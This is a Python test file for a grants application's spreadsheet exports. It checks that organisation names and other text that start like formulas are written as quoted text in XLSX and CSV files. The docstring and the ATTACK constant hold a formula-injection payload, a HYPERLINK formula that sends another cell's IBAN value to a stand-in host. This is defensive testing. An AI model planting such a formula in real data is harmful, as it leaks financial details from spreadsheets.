"""The payments XLSX never turns a name typed by an organisation into a live formula (issue 21:
`=HYPERLINK("http://x?"&G2,"x")` as an organisation's name leaked the IBAN column)."""
from __future__ import annotations

from datetime import date
from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from sqlalchemy import update

from grants.core import db, spreadsheets
from grants.registry.models import Organisation

ATTACK = '=HYPERLINK("http://x?"&G2,"x")'


def test_payments_export_writes_a_formula_like_organisation_name_as_text(world, login, app):
    w = world(("9000.00",))
    with db.session.session_factory() as s:
        s.execute(update(Organisation).where(Organisation.id == w.orgs[0].id).values(name=ATTACK))
        s.commit()
    a = w.draft(0, pattern="100")
    w.sign(a["id"])
    w.start_task(a["id"])
    [tranche] = w.agreement(a["id"])["tranches"]
    w.pay(tranche["id"], date.fromisoformat(a["task_start"]), ref="+PRZELEW-1")

    r = login(w.finance, app.test_client()).get("/agreements/payments.xlsx")
    assert r.status_code == 200
    ws = load_workbook(BytesIO(r.data)).active
    assert [c.value for c in ws[1]][:2] == ["Umowa", "Organizacja"]
    name, amount, paid_on, ref = ws["B2"], ws["D2"], ws["G2"], ws["H2"]  # columns: ... Termin, Stan, Data wypłaty, Nr przelewu
    assert name.data_type == "s" and name.value == ATTACK  # text, shown as typed, not a formula
    assert name.quotePrefix  # and kept text when someone edits the cell in Excel/LibreOffice
    assert ref.data_type == "s" and ref.value == "+PRZELEW-1" and ref.quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    # numbers and dates stay numbers and dates
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal(tranche["amount"])
    assert paid_on.is_date and paid_on.value.date() == date.fromisoformat(a["task_start"])


def test_every_formula_start_is_neutralised_in_xlsx_and_csv():
    wb, ws = spreadsheets.workbook("Test", ["A", "B"])
    dangerous = ["=1+1", "+48 12 345", "-2+3", "@SUM(A1)", "\t=1", "\r\n=1"]
    for value in dangerous:
        spreadsheets.append_row(ws, [value, -5])
    spreadsheets.append_row(ws, ["Fundacja Zwykła", Decimal("12.50")])
    back = load_workbook(spreadsheets.xlsx_bytes(wb)).active
    rows = list(back.iter_rows(min_row=2))
    for value, (text, number) in zip(dangerous, rows):
        # (older openpyxl read a carriage return and line feed back as a line feed)
        assert (text.data_type, text.quotePrefix) == ("s", True)
        assert text.value in (value, value.replace("\r\n", "\n"))
        assert (number.data_type, number.value) == ("n", -5)
    plain, money = rows[-1]
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "Fundacja Zwykła", False)
    assert money.data_type == "n"

    text = spreadsheets.csv_text([["=1+1", "-3", -3, "ok", Decimal("1.50")]])
    assert text.strip() == "'=1+1,'-3,-3,ok,1.50"


def test_every_export_writes_through_the_one_helper():
    """No module but grants.core.spreadsheets writes spreadsheets or CSV itself."""
    import re
    from pathlib import Path
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bopenpyxl\b|\bcsv\.(writer|DictWriter)\b|\bxlsxwriter\b|\bodf\b")
    offenders = [str(p.relative_to(root)) for package in ("grants", "reviewers", "budgets")
                 for p in (root / package).rglob("*.py")
                 if p != root / "grants/core/spreadsheets.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
